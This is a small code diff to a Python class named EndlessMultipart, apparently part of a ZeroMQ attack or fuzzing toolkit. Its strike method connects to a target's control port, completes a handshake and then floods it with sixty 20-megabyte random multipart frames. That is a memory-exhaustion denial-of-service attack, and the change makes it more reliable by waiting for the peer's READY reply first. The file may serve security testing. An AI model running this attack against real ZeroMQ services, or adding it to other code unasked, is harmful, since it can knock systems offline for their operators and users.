@@ -58,10 +58,12 @@ class EndlessMultipart(ZmqAttack):
 
     async def strike(self, target: Target) -> None:
         frame = b"\x03" + (20_000_000).to_bytes(8) + os.urandom(20_000_000)
-        _, writer = await asyncio.open_connection(*target.control)
-        writer.write(GREETING + READY + b"\x01\x00")
+        reader, writer = await asyncio.open_connection(*target.control)
+        writer.write(GREETING + READY)
         try:
             async with asyncio.timeout(20):
+                await reader.readuntil(b"READY")
+                writer.write(b"\x01\x00")
                 for _ in range(60):
                     writer.write(frame)
                     await writer.drain()
